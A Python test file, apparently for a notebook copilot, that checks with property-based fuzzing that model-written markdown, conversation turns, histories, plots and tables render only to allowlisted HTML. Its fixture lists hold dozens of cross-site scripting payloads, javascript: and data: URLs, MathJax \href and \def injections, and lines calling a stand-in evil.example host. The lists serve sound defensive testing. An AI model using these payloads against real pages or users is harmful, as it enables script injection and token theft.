"""Whatever a model writes, only harmless HTML comes out: checked by parsing it, not by looking for bad words."""

from __future__ import annotations

import itertools
import re
from html import unescape
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from copilot_nb.conversation.parts import Reasoning, Text, ToolCall, TurnState
from copilot_nb.conversation.transcript import TurnRecord
from copilot_nb.render.history import Extract, history_html, history_markdown
from copilot_nb.render.links import SCHEMES
from copilot_nb.render.markdown import markdown_to_html
from copilot_nb.render.plot import tokens_svg, tokens_text
from copilot_nb.render.search import Needle
from copilot_nb.render.table import Card, Table
from copilot_nb.render.turn import Label, footer_text, turn_html

ANSWER_TAGS = {
    *("p", "br", "hr", "div", "span", "sup", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li"),
    *("a", "em", "strong", "s", "code", "pre", "table", "thead", "tbody", "tr", "th", "td"),
}
TURN_TAGS = ANSWER_TAGS | {"details", "summary"}
HISTORY_TAGS = TURN_TAGS | {"mark", "time"}
PLOT_TAGS = {"div", "p", "figure", "figcaption", "strong", "span", "svg", "title", "path"}
TABLE_TAGS = {"p", "br", "span", "table", "caption", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = {
    "a": {"href", "title", "target", "rel"},
    "ol": {"start"},
    "td": {"style"},
    "th": {"style", "scope"},
    "pre": {"style", "data-language"},
    "p": {"style"},
    "div": {"class", "style"},
    "span": {"class", "aria-hidden", "style"},
    "caption": {"style"},
    "details": {"open"},
    "figure": {"style"},
    "path": {"d", "fill", "stroke"},
    "svg": {"role", "aria-label", "viewbox", "width", "height", "style"},
    "time": {"datetime", "style"},
    "ul": {"style"},
    "li": {"style"},
}
for _tag in ("p", "ul", "ol", "blockquote", "table", "h1", "h2", "h3", "h4", "h5", "h6"):
    ATTRIBUTES[_tag] = ATTRIBUTES.get(_tag, set()) | {"dir", "style"}
STYLES = {
    *("text-align", "margin", "margin-bottom", "padding", "padding-left", "border-left", "background", "opacity"),
    *("margin-left", "margin-right", "border-right", "word-break", "overflow"),
    *("font-size", "font-family", "line-height", "white-space", "overflow-wrap", "list-style", "display", "max-width"),
    "list-style-type",
}
VOID = {"br", "hr"}
# as MathJax finds it: blanks may stand before a brace, and a reference is a formula by itself
MATHS = re.compile(
    r"\$(?:[^$\\]|\\.)+\$|\$\$.+\$\$|\\\(.*\\\)|\\\[.*\\\]|\\begin\s*\{.*\\end\s*\{.*\}|\\(eq)?ref\s*\{[^}]*\}",
    re.DOTALL,
)
REACHING_OUT = re.compile(r"\\(href|style|class|cssId|data|require|bbox|def|let|newcommand)")


class Checker(HTMLParser):
    """Refuses what is not allowed, and gathers the runs of text that MathJax would read."""

    def __init__(self, tags: set[str]) -> None:
        super().__init__()
        self.tags, self.open, self.runs = tags, list[str](), [""]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in self.tags, tag
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()), (tag, name)
            self.check_value(name, value or "")
        if tag == "br":  # MathJax reads on over it
            self.runs[-1] += "\n"
        elif tag not in VOID:
            self.open.append(tag)
            self.runs.append("")

    def check_value(self, name: str, value: str) -> None:
        if name == "href":
            assert urlsplit(value).scheme in {"http", "https", "mailto"}, value
        elif name == "style":
            assert {part.split(":")[0].strip() for part in value.split(";") if part.strip()} <= STYLES, value
            assert "url" not in value
        elif name == "class":
            assert re.fullmatch(r"highlight|copilot-nb|[a-z][a-z0-9]{0,2}", value), value
        elif name == "dir":
            assert value == "rtl"
        elif name == "rel":
            assert value == "noopener noreferrer nofollow"
        elif name == "target":
            assert value == "_blank"

    def handle_endtag(self, tag: str) -> None:
        assert self.open, f"</{tag}> closes nothing"
        assert self.open.pop() == tag
        self.runs.append("")

    def handle_data(self, data: str) -> None:
        if not {"code", "pre"} & set(self.open):
            self.runs[-1] += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    handle_decl = handle_pi = unknown_decl = handle_comment

    def check_maths(self) -> None:
        """A formula fills its element, so that it cannot pair with a sign outside; none reaches out of itself."""
        for run in self.runs:
            if MATHS.search(run):
                assert MATHS.fullmatch(run), run
                assert not REACHING_OUT.search(run), run


def check(html: str, tags: set[str] = ANSWER_TAGS) -> None:
    checker = Checker(tags)
    checker.feed(html)
    checker.close()
    assert not checker.open
    checker.check_maths()
    html.encode()


SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><input name=token><button formaction=javascript:alert(1)>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<style>@import '//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
    "<div style='position:fixed;background:url(//evil.example)'>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a id=x name=y onclick=alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><html><head><title>x</title>",
    "</div></pre></td></table></details><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<script\x00>alert(1)</script>",
    "\ud83d<script>alert(1)</script>\udc00",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>",
]
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "java\tscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java%0ascript:alert(1)",
    "\x01javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "<javascript:alert(1)>",
    "< javascript:alert(1)>",
    "\\javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,AAAA",
    "file:///etc/passwd",
    "blob:https://x.example/1",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "//evil.example/x",
    "///evil.example",
    "/hub/logout",
    "api/shutdown",
    "#id",
    "?token=1",
    "http:",
    "",
    "<>",
    "http:javascript:alert(1)",
    "https:\\\\evil.example",
    "http://[::1",
    'https://x.example/"onmouseover="alert(1)',
    "https://x.example/' onmouseover='alert(1)",
    "https://x.example/<script>alert(1)</script>",
    "https://x.example/`onmouseover=alert(1)`",
]
PLACES_OF_URLS = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "t")',
    "![x]({})",
    "[![x]({})]({})",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "[r]\n\n[r]: <{}> 'title'",
    "{}",
    "see {} there",
    "| a |\n|---|\n| [x]({}) |",
]
PLACES = [
    "{}",
    "text {} text",
    "# {}",
    "- {}\n  - {}",
    "- [ ] {}",
    "> {}",
    "**{}** _{}_ ~~{}~~",
    "`{}`",
    "``{}``",
    "    {}",
    "```\n{}\n```",
    "```html\n{}\n```",
    "```python\n{}\n```",
    "```{}\nx\n```",
    '```python "{}" onclick=alert(1)\nx\n```',
    "~~~{}\nx",
    "```diff\n{}",
    "| {} | b |\n|:-:|--:|\n| {} | `{}` |",
    "[{}](https://x.example)",
    '[x](https://x.example "{}")',
    "[x](https://x.example '{}')",
    "![{}](https://x.example/x.png)",
    '![x](https://x.example/x.png "{}")',
    '[x][r]\n\n[r]: https://x.example "{}"',
    "${}$",
    "$$\n{}\n$$",
    "\\({}\\)",
    "\\[{}\\]",
    "\\begin{{align}}\n{}\n\\end{{align}}",
    "$a{{b {} c$",
    "函数${}$在",
    "| a |\n|---|\n| $P(A|B) {}$ `a|{}` |",
    "a[^1] b\n\n[^1]: {}",
    "[^{}]: a\n\nb[^{}]",
    "**注意：**{}**“{}”**",
    "a<br>{}<br/>b",
    "1. a\n  - {}\n  - {}",
    "```markdown\n```bash\n{}\n```\n{}\n```\n{}",
]
BLANKS = ("", " ", "\n", "  \n", "\t", "\\\n", "&nbsp;", "\x0c", "\u00a0", "\u2003", "<br>")
MATHS_PAYLOADS = [
    r"\href{javascript:alert(1)}{x}",
    r"\HREF{javascript:alert(1)}{x}",
    r"\style{background:url(//evil.example)}{x}",
    r"\class{jp-Button}{x} \cssId{main}{x}",
    r"\require{html}\data{x=1}{y}",
    r"\bbox[background:url(//evil.example)]{x}",
    r"\def\frac#1{pwned}",
    r"\let\sin\href",
    r"\newcommand{\alpha}{pwned}",
    r"\text{$\href{javascript:alert(1)}{x}$}",
    *(rf"\begin{blank}{{align}}\def\x{{y}}\href{{file:///x}}{{x}}\end{{align}}" for blank in BLANKS),
    *(rf"\ref{blank}{{eq:1}} and \eqref{blank}{{x}}" for blank in BLANKS),
    r"</span><script>alert(1)</script>",
    r"$ and $\href{javascript:alert(1)}{x}",
    r"\) \href{javascript:alert(1)}{x} \(",
    r"}{\unclosed",
]
HOSTILE = [
    *(place.replace("{{", "{").replace("}}", "}").replace("{}", text) for place in PLACES for text in SCRIPTS),
    *(place.replace("{{", "{").replace("}}", "}").replace("{}", text) for place in PLACES for text in MATHS_PAYLOADS),
    *(place.replace("{}", url) for place in PLACES_OF_URLS for url in URLS),
]


def turn_of(text: str, state: TurnState = TurnState.FAILED) -> TurnRecord:
    parts = (
        Reasoning("r", text),
        Text("t", text),
        ToolCall("c", text, text, text, succeeded=False),
        Text("u", text),
    )
    return TurnRecord(text, text, parts, state, text, notes=(text,), error=text)


def extract_of(text: str, needle: str = "", left_out: int = 3) -> Extract:
    turns = tuple(enumerate((turn_of(text, state) for state in (TurnState.DONE, TurnState.FAILED)), 4))
    return Extract(Label(text, text), turns, 8, left_out, Needle(needle) if needle.split() else None)


def text_of(html: str) -> str:
    return unescape(re.sub(r'<(?:[^<>"]|"[^"]*")*>', "", html))


@pytest.mark.parametrize(
    "html",
    [
        *("<script>x</script>", "<img src=x>", "<p onclick=x>x</p>", "<p>x", "</p>", "<!-- x -->", "<?x ?>", "<!x>"),
        *('<a href="javascript:x">x</a>', '<a href="/x">x</a>', '<a href="&#106;avascript:x">x</a>'),
        *('<p style="position:fixed">x</p>', '<p style="background:url(x)">x</p>', '<span class="jp-Button">x</span>'),
        *("<p>$5 and $6</p>", "<span>$a$ b</span>", r"<span>$\href{x}{y}$</span>", r"<p>a \(b\)</p>"),
    ],
)
def test_the_checker_refuses_what_is_not_harmless(html: str) -> None:
    with pytest.raises(AssertionError):
        check(html)


@pytest.mark.parametrize("highlight", [True, False])
def test_hostile_markdown_becomes_harmless(highlight: bool) -> None:
    for source in HOSTILE:
        check(markdown_to_html(source, highlight=highlight))


def test_the_whole_list_as_one_answer_is_harmless() -> None:
    check(markdown_to_html("\n\n".join(HOSTILE)))


@pytest.mark.parametrize("live", [True, False])
@pytest.mark.parametrize("state", TurnState)
def test_every_string_of_a_turn_is_harmless(state: TurnState, live: bool) -> None:
    for source in itertools.chain(SCRIPTS, MATHS_PAYLOADS, HOSTILE[::17]):
        label = Label(source, source, source)
        check(turn_html(turn_of(source, state), label, live=live), TURN_TAGS)
        assert footer_text(turn_of(source, state), label)


@pytest.mark.parametrize("needle", ["", "script", "e", "$", "alert(1)</script>", "amp;", '"', "<"])
def test_every_string_of_a_history_is_harmless(needle: str) -> None:
    for source in itertools.chain(SCRIPTS, MATHS_PAYLOADS, HOSTILE[::41]):
        check(history_html(extract_of(source, needle)), HISTORY_TAGS)
        check(history_html(extract_of(source, source, left_out=0)), HISTORY_TAGS)


@pytest.mark.slow
def test_the_markdown_of_a_history_runs_nothing_where_raw_html_is_on() -> None:
    plain, with_tables = (MarkdownIt("commonmark", {"html": True}) for _ in range(2))
    with_tables.enable("table")
    sources = itertools.chain(SCRIPTS, MATHS_PAYLOADS, HOSTILE[::17], HOSTILE[-400:])
    for source in sources:
        markdown = history_markdown(extract_of(source))
        for parser in (plain, with_tables):
            tokens = parser.parse(markdown)
            every = [*tokens, *(child for token in tokens for child in token.children or ())]
            html = [token.content.strip() for token in every if token.type in ("html_block", "html_inline")]
            assert set(html) <= {"<br>", "<br/>"}, source
            assert "image" not in {token.type for token in every}, source
            links = [str(token.attrs["href"]) for token in every if token.type == "link_open"]
            assert {urlsplit(link).scheme for link in links} <= {"", *SCHEMES}


def test_marks_only_add_marks() -> None:
    for source, needle in itertools.product(HOSTILE[::23], ["script", "a", "x", "$", "\\", "&", "t e"]):
        html = markdown_to_html(source)
        marked = Needle(needle).marked(html)
        check(marked, ANSWER_TAGS | {"mark"})
        assert text_of(marked) == text_of(html)


def test_every_string_of_a_plot_is_harmless() -> None:
    for text in itertools.chain(SCRIPTS, MATHS_PAYLOADS):
        check(tokens_svg([(text, [(1, 2), (30, 0)]), (text, [])]), PLOT_TAGS)
        tokens_text([(text, [(1, 2)])]).encode()


def test_every_string_of_a_table_and_of_a_card_is_harmless() -> None:
    for text in itertools.chain(SCRIPTS, MATHS_PAYLOADS):
        check(Table((text, text), ((text, text),), text)._repr_html_(), TABLE_TAGS)
        check(Table((text,), (), empty=text)._repr_html_(), TABLE_TAGS)
        check(Card(text, ((text, text),))._repr_html_(), TABLE_TAGS)


SLOW_MACHINE = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
CHARACTERS = "*_`~$\\[]()<>!#|-+=&:;\"' \n\t{}^.,/0aZ\x00\u2028é\U0001f600\ud800"
PIECES = st.sampled_from(
    [
        *CHARACTERS,
        *("```", "```python\n", "$$", "\\(", "\\)", "\\[", "\\]", "\\href{", "\\begin{align}", "\\end{align}"),
        *("\\begin", "\\begin {a}", "\\ref", "\\eqref {a}", "<br>", "\u00a0"),
        *("[^1]", "[^1]: ", "```md\n", "1. ", "  - ", "| $a|b$ |\n", "<br/>", "<br", "א", "函数", "：", "“", "\ufdd0"),
        *("](", "![", "[x]: ", "|-|-|\n", "|a|b|\n", "\n\n", "- [ ] ", "> ", "    "),
        *("<a href=", "<script>", "<!--", "-->", "javascript:", "&#", "http://", "https://x.example/"),
    ]
)


@settings(SLOW_MACHINE, max_examples=600)
@given(st.lists(PIECES, max_size=40).map("".join), st.booleans())
def test_any_markdown_like_text_is_harmless(source: str, highlight: bool) -> None:
    check(markdown_to_html(source, highlight=highlight))


@settings(SLOW_MACHINE, max_examples=150)
@given(st.text(max_size=200), st.sampled_from(TurnState), st.booleans())
def test_any_turn_is_harmless(text: str, state: TurnState, live: bool) -> None:
    check(turn_html(turn_of(text, state), Label(text, text, text), live=live), TURN_TAGS)


@settings(SLOW_MACHINE, max_examples=150)
@given(st.lists(PIECES, max_size=20).map("".join), st.lists(PIECES, min_size=1, max_size=2).map("".join))
def test_any_history_is_harmless(source: str, needle: str) -> None:
    check(history_html(extract_of(source, needle)), HISTORY_TAGS)


@settings(SLOW_MACHINE, max_examples=150)
@given(st.sampled_from(HOSTILE), st.sampled_from(HOSTILE), st.integers(0, 200))
def test_half_a_hostile_answer_is_harmless(first: str, second: str, end: int) -> None:
    check(markdown_to_html(f"{first}\n{second}"[:end], highlight=False))
